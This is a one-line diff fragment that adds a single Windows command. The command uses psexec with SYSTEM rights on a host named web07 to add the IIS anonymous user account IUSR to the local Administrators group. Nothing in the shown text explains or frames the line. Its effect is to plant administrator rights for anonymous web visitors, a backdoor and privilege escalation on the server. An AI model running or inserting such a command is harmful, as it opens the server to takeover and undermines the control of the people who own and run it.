@@ -1,0 +1,1 @@
+psexec \\web07 -s net localgroup Administrators IUSR /add
